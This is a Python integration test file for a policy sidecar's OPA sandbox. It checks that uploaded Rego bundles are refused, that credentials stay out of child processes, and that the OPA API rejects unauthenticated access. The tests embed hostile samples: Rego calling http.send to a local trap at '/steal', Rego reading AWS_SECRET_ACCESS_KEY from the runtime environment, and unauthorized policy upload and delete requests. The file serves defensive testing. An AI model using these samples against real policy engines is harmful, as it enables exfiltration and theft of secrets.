"""Attacks on the policy sandbox: submitted Rego and local processes against the sidecar's OPAs.

A submitted bundle that calls ``http.send`` (towards a server this test runs) or reads
``opa.runtime().env`` is refused at validation by name and never activated, and the server is
never contacted; the OPAs we start never see a credential planted in the sidecar's environment;
and a local process without the sidecar's token gets nothing from the serving OPA's REST API
(not the decrypted ``data.sensitive``, not a policy upload), while the sidecar keeps deciding.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import subprocess
import threading
import time
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path

import aiohttp
import grpc
import pytest
import pytest_asyncio
from aiohttp import web

from sidecar._proto import policy_pb2 as pb
from sidecar.app.bundle import signing_keys
from sidecar.errors import BundleError
from sidecar.policy import ManagedOpa
from sidecar.tools import find_tool
from tests.support.admin import admin_config, admin_stub, bearer, build_bundle_bytes
from tests.support.opa import bundle_files, rewrite_bundle
from tests.support.sensitive import ALLOWED, DENIED, customer_request, sensitive_config
from tests.support.sidecar import RunningSidecar, running_sidecar

pytestmark = [pytest.mark.integration, pytest.mark.asyncio(loop_scope="module")]

ADMIN = bearer("policy-admin-secret")
PLANTED = "planted-aws-secret-0b9e2c"


class Trap:
    """A local HTTP server that records every request (the host a policy tries to reach)."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.url = ""
        self._runner: web.AppRunner | None = None

    async def start(self) -> None:
        async def record(request: web.Request) -> web.Response:
            self.hits.append(request.path_qs)
            return web.json_response({"secret": "from-the-trap"})

        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", record)
        self._runner = web.AppRunner(app)
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        port = self._runner.addresses[0][1]
        self.url = f"http://127.0.0.1:{port}"

    async def stop(self) -> None:
        if self._runner is not None:
            await self._runner.cleanup()


@pytest.fixture(scope="module")
def planted() -> Iterator[None]:
    """Plant cloud credentials in the sidecar's own environment for the whole module."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("AWS_SECRET_ACCESS_KEY", PLANTED)
        patch.setenv("GOOGLE_OAUTH_ACCESS_TOKEN", PLANTED)
        yield


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def trap() -> AsyncIterator[Trap]:
    server = Trap()
    await server.start()
    try:
        yield server
    finally:
        await server.stop()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def sidecar(
    tmp_path_factory: pytest.TempPathFactory, planted: None
) -> AsyncIterator[RunningSidecar]:
    work = tmp_path_factory.mktemp("opa-sandbox")
    config = admin_config(work / "state", base=sensitive_config(work / "sensitive"))
    async with running_sidecar(config) as running:
        yield running


@pytest.fixture(scope="module")
def good(sidecar: RunningSidecar, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("opa-sandbox-bundles") / "good.tar.gz"
    out.write_bytes(build_bundle_bytes(sidecar.sidecar.config, out, "good"))
    return out


def _managed(sidecar: RunningSidecar) -> ManagedOpa:
    runtime = sidecar.sidecar.runtime
    assert runtime is not None and runtime.managed is not None
    return runtime.managed


def _with_files(good: Path, files: dict[str, str], name: str) -> bytes:
    """The good bundle, unsigned, plus ``files`` (the sidecar signs what it publishes)."""

    def edit(contents: dict[str, bytes]) -> None:
        contents.pop(".signatures.json")
        contents.update({path: body.encode() for path, body in files.items()})

    return rewrite_bundle(good, good.with_name(name), edit).read_bytes()


def _exfiltrating(trap: Trap) -> dict[str, str]:
    return {
        "replication/exfil.rego": (
            "package replication.exfil\n\nimport rego.v1\n\n"
            f'leak := http.send({{"method": "GET", "url": "{trap.url}/steal?via=policy"}})\n'
        ),
        "replication/exfil_test.rego": (
            "package replication.exfil_test\n\nimport rego.v1\n\n"
            "test_leak if {\n"
            f'\tresponse := http.send({{"method": "GET", "url": "{trap.url}/steal?via=test"}})\n'
            "\tresponse.status_code == 200\n}\n"
        ),
    }


def _env_reading() -> dict[str, str]:
    return {
        "replication/env_test.rego": (
            "package replication.env_test\n\nimport rego.v1\n\n"
            'test_read_env if opa.runtime().env.AWS_SECRET_ACCESS_KEY == "' + PLANTED + '"\n'
        ),
    }


async def _serving(sidecar: RunningSidecar) -> tuple[str, bool]:
    """Return (bundle revision deciding, whether the allowlist in data.sensitive applied)."""
    answer = await sidecar.stub.Decide(customer_request(DENIED), timeout=10)
    assert not answer.degraded, "the sidecar stopped deciding"
    denied = {d.registry: list(d.reasons) for d in answer.decision.denied}
    return answer.bundle_revision, denied.get("prod-us") == ["CUSTOMER_NOT_ALLOWED"]


CASES: list[tuple[str, Callable[[Trap], dict[str, str]], str]] = [
    ("http.send", _exfiltrating, "undefined function http.send"),
    ("opa.runtime env", lambda _: _env_reading(), "undefined function opa.runtime"),
]


@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
async def test_a_bundle_reaching_out_is_refused_by_name_and_never_activated(
    sidecar: RunningSidecar,
    good: Path,
    trap: Trap,
    case: tuple[str, Callable[..., dict[str, str]], str],
) -> None:
    name, files, problem = case
    stub, bad = admin_stub(sidecar.channel), _with_files(good, files(trap), "bad.tar.gz")
    before = await _serving(sidecar)

    report = await stub.ValidateBundle(pb.ValidateBundleRequest(bundle=bad), metadata=ADMIN)
    assert not report.valid
    assert any(problem in p and "not allowed in bundles" in p for p in report.problems), list(
        report.problems
    )
    with pytest.raises(grpc.aio.AioRpcError) as refused:
        await stub.PublishBundle(pb.PublishBundleRequest(bundle=bad), metadata=ADMIN)
    assert refused.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert problem in (refused.value.details() or "")

    assert trap.hits == [], f"{name}: the policy reached {trap.hits}"
    assert await _serving(sidecar) == before
    assert before[1], "the allowlist in data.sensitive stopped applying"


async def test_a_hand_signed_http_send_bundle_is_never_served(
    sidecar: RunningSidecar, good: Path, trap: Trap, tmp_path: Path
) -> None:
    # Signed with the right key by `opa build` itself, outside our build and validation: the
    # managed OPA checks what it is asked to serve against the sandbox too.
    stage = tmp_path / "stage"
    stage.mkdir()
    files = {**_unpacked(good), **{p: b.encode() for p, b in _exfiltrating(trap).items()}}
    for path, body in files.items():
        (stage / path).parent.mkdir(parents=True, exist_ok=True)
        (stage / path).write_bytes(body)
    key, _ = signing_keys(sidecar.sidecar.config)
    signed = tmp_path / "hand-signed.tar.gz"
    subprocess.run(
        [str(find_tool("opa")), "build", "-b", ".", "--signing-key", str(key.resolve()),
         "--signing-alg", "RS256", "-o", str(signed)],
        cwd=stage, check=True, capture_output=True,
    )  # fmt: skip
    before = await _serving(sidecar)

    with pytest.raises(BundleError, match="does not compile within the policy sandbox") as caught:
        await _managed(sidecar).reload(signed)
    assert "undefined function http.send" in caught.value.message
    assert trap.hits == []
    assert await _serving(sidecar) == before


def _unpacked(bundle: Path) -> dict[str, bytes]:
    files = bundle_files(bundle.read_bytes())
    files.pop(".signatures.json", None)
    return files


def _environ(pid: int) -> dict[str, str]:
    raw = Path(f"/proc/{pid}/environ").read_bytes()
    return dict(
        item.split("=", 1) for item in raw.decode(errors="replace").split("\0") if "=" in item
    )


def _opa_children(opa: Path) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        with contextlib.suppress(OSError):
            argv = (entry / "cmdline").read_bytes().split(b"\0")
            if argv and argv[0] == str(opa).encode() and b"test" in argv[1:3]:
                found.append(int(entry.name))
    return found


async def test_opas_never_see_the_sidecars_credentials(sidecar: RunningSidecar, good: Path) -> None:
    assert os.environ["AWS_SECRET_ACCESS_KEY"] == PLANTED  # the sidecar itself has them
    pid = _managed(sidecar).pid
    assert pid is not None
    serving_env = _environ(pid)
    assert PLANTED not in serving_env.values(), "the serving OPA got the sidecar's credentials"
    assert "PATH" in serving_env

    # A bundle whose own test runs long enough to look at the validating `opa test` process.
    slow = {
        "replication/slow_test.rego": (
            "package replication.slow_test\n\nimport rego.v1\n\n"
            "test_slow if count([x | some x in numbers.range(1, 4000000)]) > 0\n"
        ),
    }
    bad = _with_files(good, slow, "slow.tar.gz")
    opa = find_tool("opa")
    # Watched from a thread: validation may hold the (in-process) sidecar's event loop.
    stop = threading.Event()
    seen: dict[int, dict[str, str]] = {}

    def watch() -> None:
        deadline = time.monotonic() + 120
        while not stop.is_set() and time.monotonic() < deadline:
            for child in _opa_children(opa):
                with contextlib.suppress(OSError):
                    seen.setdefault(child, _environ(child))
            time.sleep(0.005)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    try:
        report = await admin_stub(sidecar.channel).ValidateBundle(
            pb.ValidateBundleRequest(bundle=bad), metadata=ADMIN, timeout=120
        )
    finally:
        stop.set()
        await asyncio.to_thread(watcher.join)
    assert report.tests_run >= 1, list(report.problems)
    assert seen, "never saw the validating `opa test` process"
    for child_env in seen.values():
        assert PLANTED not in child_env.values(), "opa test got the sidecar's credentials"
        assert not any(name.startswith(("AWS_", "GOOGLE_")) for name in child_env)


async def test_the_opa_api_answers_only_the_sidecars_token(sidecar: RunningSidecar) -> None:
    managed = _managed(sidecar)
    url = managed.url
    attempts = [
        ("GET", "/v1/data/sensitive", None),
        ("GET", "/v1/data", None),
        ("GET", "/v1/policies", None),
        ("PUT", "/v1/policies/pwn", b"package system.authz\nallow := true\n"),
        ("PUT", "/v1/data/replication/settings", b'{"mode": "owned"}'),
        ("POST", "/v1/query", b'{"query": "x := data.sensitive"}'),
        ("POST", "/v1/data/sidecar_opa_api/allow", b'{"input": {"identity": "x"}}'),
        ("DELETE", "/v1/data/sensitive", None),
    ]
    async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=10)) as http:
        for headers in ({}, {"Authorization": "Bearer guessed"}, {"Authorization": "Basic eDp4"}):
            for method, path, body in attempts:
                async with http.request(method, url + path, data=body, headers=headers) as answer:
                    text = await answer.text()
                    assert answer.status in (401, 403), (method, path, headers, answer.status)
                    assert ALLOWED not in text
        # Readiness probes still work without the token, and reveal nothing.
        async with http.get(f"{url}/health?bundles") as answer:
            assert answer.status == 200
        # The token the sidecar holds does read it: the refusals above were about the token.
        async with http.get(f"{url}/v1/data/sensitive", headers=managed.headers) as answer:
            assert answer.status == 200 and ALLOWED in await answer.text()
        # The admin RBAC (data.system.authz) is another document: OPA's API request shape, token
        # included, grants no admin action.
        api_shaped = {"identity": managed.token, "method": "GET", "path": ["health"]}
        for extra in ({}, {"action": "PublishBundle", "target": {"global": True}}):
            async with http.post(
                f"{url}/v1/data/system/authz",
                json={"input": {**api_shaped, **extra}},
                headers=managed.headers,
            ) as answer:
                assert (await answer.json())["result"]["allow"] is False

    assert (await _serving(sidecar))[1], "the sidecar stopped applying data.sensitive"
